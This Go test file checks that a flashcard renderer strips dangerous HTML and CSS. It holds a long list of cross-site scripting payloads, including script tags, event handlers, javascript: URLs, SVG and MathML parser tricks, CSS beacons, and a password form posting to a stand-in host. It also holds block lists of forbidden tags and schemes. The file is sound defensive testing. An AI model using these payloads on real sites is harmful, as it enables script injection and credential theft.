package render_test

import (
	"strings"
	"testing"

	nethtml "golang.org/x/net/html"

	"recto/cards"
	"recto/cards/render"
)

// hostile is what a deck may try. Every piece is tried as a field, as a template and
// inside of other HTML.
var hostile = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script/x>alert(1)</script>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`, `<img src="x" OnErRoR="alert(1)">`, `<img/src=x/onerror=alert(1)>`, "<img src=x onerror\n=alert(1)>", `<img src="javascript:alert(1)">`,
	`<img src="jav&#x09;ascript:alert(1)">`, `<img src=" &#14; javascript:alert(1)">`, `<img src="data:text/html,<script>alert(1)</script>">`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`, `<img src="data:image/png;base64,x" onload=alert(1)>`, `<img src=x:alert(1) onerror=eval(src)>`,
	`<img srcset="https://evil.example/x.png 1x" src="https://evil.example/x.png">`, `<img src="//evil.example/x.png">`, `<img src="\\evil.example\x.png">`, `<img src="https:evil.example">`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, "<a href=\"java\nscript:alert(1)\">x</a>", `<a href="&#106;avascript:alert(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`, `<a href="vbscript:x">x</a>`, `<a href="https://x.example" onclick="alert(1)" target="_top">x</a>`, `<a href="x" style="x:expression(alert(1))">x</a>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><animate attributeName=href values=javascript:alert(1) /></svg>`,
	`<svg><set attributeName="onmouseover" to="alert(1)"/></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>`, `<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`, `<svg><title><img src=x onerror=alert(1)></title></svg>`, `<svg><desc><script>alert(1)</script></desc></svg>`, `<svg><image href="https://evil.example/x.png"/></svg>`,
	`<svg><rect fill="url(https://evil.example/#x)"/></svg>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`, `<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style></p></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<math href="javascript:alert(1)">x</math>`, `<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`,
	`<form action="https://evil.example"><input name=p type=password><button>go</button></form>`, `<input onfocus=alert(1) autofocus>`, `<button formaction="javascript:alert(1)">x</button>`, `<textarea><img src=x onerror=alert(1)></textarea>`,
	`<select><style></select><img src=x onerror=alert(1)></style></select>`, `<isindex action=javascript:alert(1)>`, `<input type=image src=https://evil.example/x.png>`,
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data="javascript:alert(1)"></object>`, `<embed src="javascript:alert(1)">`, `<applet code=x></applet>`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">`, `<base href="https://evil.example/">`, `<link rel=stylesheet href="https://evil.example/x.css">`, `<link rel=prefetch href=//evil.example>`,
	`<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/x)}</style>`, `<style>.x{}</style><script>alert(1)</script>`, `<style></style><style>*{position:fixed}</style>`,
	`<div style="background:url(https://evil.example/x.png)">x</div>`, `<div style="background:u\72l(https://evil.example/x)">x</div>`, `<div style="position:fixed;top:0">x</div>`, `<div style="position:f\69xed">x</div>`,
	`<div style="position:/**/fixed">x</div>`, `<div style="position:sticky">x</div>`, `<div style="--p:fixed;position:var(--p)">x</div>`, `<div style="behav` + `ior:url(x.htc)">x</div>`, `<div style="-moz-binding:url(x)">x</div>`,
	`<div style="width:expression(alert(1))">x</div>`, `<div style="background:image-set('https://evil.example/x' 1x)">x</div>`, `<div style="content:'</style><script>alert(1)</script>'">x</div>`,
	`<div style="--x:url(https://evil.example/x);background:var(--x)">x</div>`, `<div style='list-style:url("https://evil.example/x")'>x</div>`, `<div style="cursor:url(//evil.example/c),auto">x</div>`,
	`<video src="https://evil.example/x.mp4" autoplay onplay=alert(1)></video>`, `<video poster="https://evil.example/x.png" src=x.mp4></video>`, `<audio src="javascript:alert(1)" autoplay></audio>`, `<video><source onerror="alert(1)" src="x"></video>`,
	`<body onload=alert(1)>`, `<html onclick=alert(1)><head><title>x</title></head>`, `<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>`, `<marquee onstart=alert(1)>x</marquee>`, `<details open ontoggle=alert(1)>x</details>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<template><script>alert(1)</script></template>`, `<xmp><script>alert(1)</script></xmp>`, `<plaintext><script>alert(1)</script>`,
	`<!--><script>alert(1)</script>-->`, `<!-- --!><script>alert(1)</script> -->`, `<![CDATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?><script>alert(1)</script>`, `<!DOCTYPE html [<!ENTITY x "y">]>`,
	"\x00<scr\x00ipt>alert(1)</scr\x00ipt>", `<div id="card-scope" class="card-scope modal">x</div>`, `<div id=location name=cookie>x</div>`, `<a name="getElementById" id=forms>x</a>`, `"><script>alert(1)</script>`, `'><img src=x onerror=alert(1)>`,
	`[sound:"><script>alert(1)</script>]`, `[sound:javascript:alert(1)]`, `[sound:https://evil.example/x.mp3]`, `[sound:x.mp3" autoplay onplay="alert(1)]`, `[anki:tts lang="><script>alert(1)</script>]x[/anki:tts]`,
	`[anki:tts lang=de onclick=alert(1)]"><script>alert(1)</script>[/anki:tts]`, `[latex]"><script>alert(1)</script>[/latex]`, `<card-sound data-n="q99"></card-sound><card-typed></card-typed>`,
	`<card-mask data-state="active" data-shape="rect" data-style="position:fixed;background:url(https://evil.example)"><script>alert(1)</script></card-mask><div id="image-occlusion-container"><img src=x></div>`,
	`{{c1::image-occlusion:rect:left="><script>alert(1)</script>:top=.1}}`, `{{c1::image-occlusion:text:left=.1:top=.2:text=<img src=x onerror=alert(1)>}}<div id="image-occlusion-container"></div>`,
	`{{c1::<script>alert(1)</script>::<img src=x onerror=alert(1)>}}`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `<b onmouseover=alert(1)//>x`, `<a/href/onclick=alert(1)>x`, `<table background="javascript:alert(1)"><td background="https://evil.example/x">`,
	`<font color="red" onclick=alert(1)>x</font>`, `<q cite="javascript:alert(1)">x</q>`, `<blockquote cite="//evil.example">x</blockquote>`, `<img usemap=#m src=x><map name=m><area href=javascript:alert(1)></map>`,
}

// TestNothingHostilePasses looks at what a browser would make of each side.
func TestNothingHostilePasses(t *testing.T) {
	if len(hostile) < 60 {
		t.Fatalf("%d pieces are too few", len(hostile))
	}
	around := []string{"%", "<div title=\"%\">", "<p>%</p><style>%</style>", "<svg>%</svg>", "<table><tr>%", "<b title='%'>x", "<textarea>%", "<!--%-->"}
	for _, h := range hostile {
		for _, a := range around {
			piece := strings.ReplaceAll(a, "%", h)
			for _, kind := range []cards.NoteType{
				{Name: h, Fields: []string{"A", h}, Templates: []cards.Template{{Name: h, Front: "{{A}}{{Type}}{{hint:A}}{{type:A}}{{tts " + strings.NewReplacer(":", "", "{", "", "}", "").Replace(h) + ":A}}", Back: "{{text:A}}{{FrontSide}}{{furigana:A}}{{type:A}}{{Tags}}"}}},
				{Fields: []string{"A"}, Templates: []cards.Template{{Front: piece + "{{A}}", Back: "{{FrontSide}}{{B}}" + piece}}},
				{Cloze: true, Fields: []string{"A"}, Templates: []cards.Template{{Front: "{{cloze:A}}", Back: "{{cloze-only:A}}{{hint:cloze:A}}{{text:cloze:A}}"}}},
			} {
				n := cards.Note{Fields: []cards.Field{{Name: "A", Value: piece + "{{c1::x}}"}}, Tags: []string{h}}
				front, back, _ := render.Card(n, kind, 0, render.Options{Deck: h, Typed: h, Media: media})
				for _, side := range []render.Side{front, back} {
					if fault := unsafe(string(side.HTML)); fault != "" {
						t.Fatalf("Card of %q in %q has %s: %q", h, a, fault, side.HTML)
					}
					if fault := unsafeCSS(string(side.CSS)); fault != "" {
						t.Fatalf("CSS of %q in %q has %s: %q", h, a, fault, side.CSS)
					}
				}
			}
		}
	}
}

func media(name string) string {
	if strings.ContainsAny(name, `/\:<>"'`) || strings.HasPrefix(name, "latex-") {
		return ""
	}
	return "/media/" + strings.ReplaceAll(name, " ", "%20")
}

// unsafe says what a page must not contain that the HTML has; "" for nothing. It
// parses with and without scripting, as a browser may do either.
func unsafe(document string) string {
	for _, scripting := range []bool{true, false} {
		doc, err := nethtml.ParseWithOptions(strings.NewReader(document), nethtml.ParseOptionEnableScripting(scripting))
		if err != nil {
			return err.Error()
		}
		fault := ""
		for n := range doc.Descendants() {
			if n.Type == nethtml.CommentNode || n.Type == nethtml.DoctypeNode {
				fault = "a comment"
			}
			if n.Type == nethtml.ElementNode && fault == "" {
				fault = unsafeElement(n)
			}
		}
		if fault != "" {
			return fault
		}
	}
	return ""
}

func unsafeElement(n *nethtml.Node) string {
	switch n.Data {
	case "script", "style", "iframe", "object", "embed", "applet", "form", "meta", "base", "link", "textarea", "select", "template", "noscript", "math",
		"foreignObject", "use", "image", "animate", "set", "title", "desc", "frame", "frameset", "marquee", "xmp", "plaintext", "map", "area", "source", "track":
		return "the element " + n.Data
	}
	for _, a := range n.Attr {
		value := strings.ToLower(strings.Join(strings.Fields(a.Val), ""))
		switch key := strings.ToLower(a.Key); {
		case strings.HasPrefix(key, "on"), key == "srcset", key == "srcdoc", key == "poster", key == "autoplay", key == "formaction", key == "action",
			key == "background", key == "xlink:href", key == "name" && (n.Data != "input" || a.Val != "typed"), key == "autofocus", key == "usemap", key == "ping":
			return "the attribute " + a.Key
		case key == "href" || key == "src" || key == "cite":
			for _, scheme := range []string{"javascript:", "vbscript:", "data:text", "data:image/svg", "file:"} {
				if strings.HasPrefix(value, scheme) {
					return "the address " + a.Val
				}
			}
			if key == "src" && (strings.Contains(value, "evil.example") || strings.HasPrefix(value, "//")) {
				return "a picture of another site: " + a.Val
			}
		case key == "style":
			return "a style of its own"
		case key == "class":
			for _, c := range strings.Fields(a.Val) {
				if !strings.HasPrefix(c, "c-") && !strings.HasPrefix(c, "card-") {
					return "the class " + c
				}
			}
		case key == "id":
			if !strings.HasPrefix(a.Val, "c-") {
				return "the id " + a.Val
			}
		case key == "type" && n.Data == "input" && value != "text":
			return "an input of type " + a.Val
		}
	}
	return ""
}

func unsafeCSS(css string) string {
	lower := strings.ToLower(css)
	for _, bad := range []string{"@import", "evil.example", "javascript:", "expression(", "position:fixed", "position:sticky", "position:var", "behav" + "ior:", "-moz-binding", "</", `u\72l`} {
		if strings.Contains(lower, bad) {
			return "the style " + bad
		}
	}
	return ""
}

func FuzzCard(f *testing.F) {
	for _, h := range hostile {
		f.Add("{{A}}"+h, "{{FrontSide}}{{hint:A}}", h, h)
	}
	f.Add("{{#A}}{{cloze:A}}{{/A}}", "{{text:furigana:A}}", "{{c1::a {{c2::b::h}}}}", ".card{color:red}@media (x){a{}}")
	f.Fuzz(func(t *testing.T, front, back, field, css string) {
		n := cards.Note{Fields: []cards.Field{{Name: "A", Value: field}}}
		for _, cloze := range []bool{false, true} {
			kind := cards.NoteType{Fields: []string{"A"}, Cloze: cloze, Templates: []cards.Template{{Front: front, Back: back}}}
			f, b, _ := render.Card(n, kind, 0, render.Options{Media: media})
			for _, side := range []render.Side{f, b} {
				if fault := unsafe(string(side.HTML)); fault != "" {
					t.Fatalf("Card has %s: %q", fault, side.HTML)
				}
			}
			again, _, _ := render.Card(n, kind, 0, render.Options{Media: media})
			if again.HTML != f.HTML {
				t.Fatalf("the same card is once %q and once %q", f.HTML, again.HTML)
			}
			if o := render.Ordinals(kind, []string{field}); len(o) == 0 {
				t.Fatal("a note without cards")
			}
			render.Text(n, kind, 0, render.Options{})
		}
		clean := string(render.CSS(css, render.Options{Media: media}))
		if strings.Contains(clean, "<") || strings.Contains(strings.ToLower(clean), "@import") {
			t.Fatalf("CSS(%q) = %q", css, clean)
		}
		if twice := balance(clean); twice != 0 {
			t.Fatalf("CSS(%q) = %q leaves %d blocks open", css, clean, twice)
		}
	})
}

// balance counts braces outside of strings.
func balance(css string) int {
	open, quote := 0, byte(0)
	for i := 0; i < len(css); i++ {
		switch c := css[i]; {
		case c == '\\':
			i++
		case quote != 0:
			if c == quote {
				quote = 0
			}
		case c == '"' || c == '\'':
			quote = c
		case c == '{':
			open++
		case c == '}':
			open--
		}
	}
	return open
}

// TestLongAndMean renders what makes careless scanners look at everything again and
// again. It has no clock: with one that does, it would not come to an end.
func TestLongAndMean(t *testing.T) {
	const n = 60_000
	for _, piece := range []string{"[sound:", "[anki:tts x]", "[anki:tts x][sound:a]", "<", "<!--", "<style", "<script", "</b>", "{{c1::", "{{c1", "{{", "}}", `\(`, "\\(x\\)", "[latex]",
		"[$]", "a[b", " [", "&", "&amp", "<b>", "<a><b>", "<div>", "<table>", "<svg>", "<p style=color:red>", "<br>", "{{c1::{{c2::", "<card-mask>", `<div id="image-occlusion-container"><card-mask>`} {
		value := strings.Repeat(piece, n/len(piece))
		for _, kind := range []cards.NoteType{
			{Fields: []string{"A"}, Templates: []cards.Template{{Front: "{{A}}{{text:A}}{{furigana:A}}", Back: "{{FrontSide}}{{type:A}}"}}},
			{Fields: []string{"A"}, Cloze: true, Templates: []cards.Template{{Front: "{{cloze:A}}", Back: "{{cloze-only:A}}"}}},
			{Fields: []string{"A"}, Templates: []cards.Template{{Front: value, Back: strings.Repeat("{{A}}<!--", n/9)}}, CSS: value},
		} {
			note := cards.Note{Fields: []cards.Field{{Name: "A", Value: value}}}
			front, _, _ := render.Card(note, kind, 0, render.Options{Media: media})
			if fault := unsafe(string(front.HTML)); fault != "" {
				t.Errorf("%q, often: %s", piece, fault)
			}
			render.Text(note, kind, 0, render.Options{})
			render.CSS(value, render.Options{})
		}
	}
}
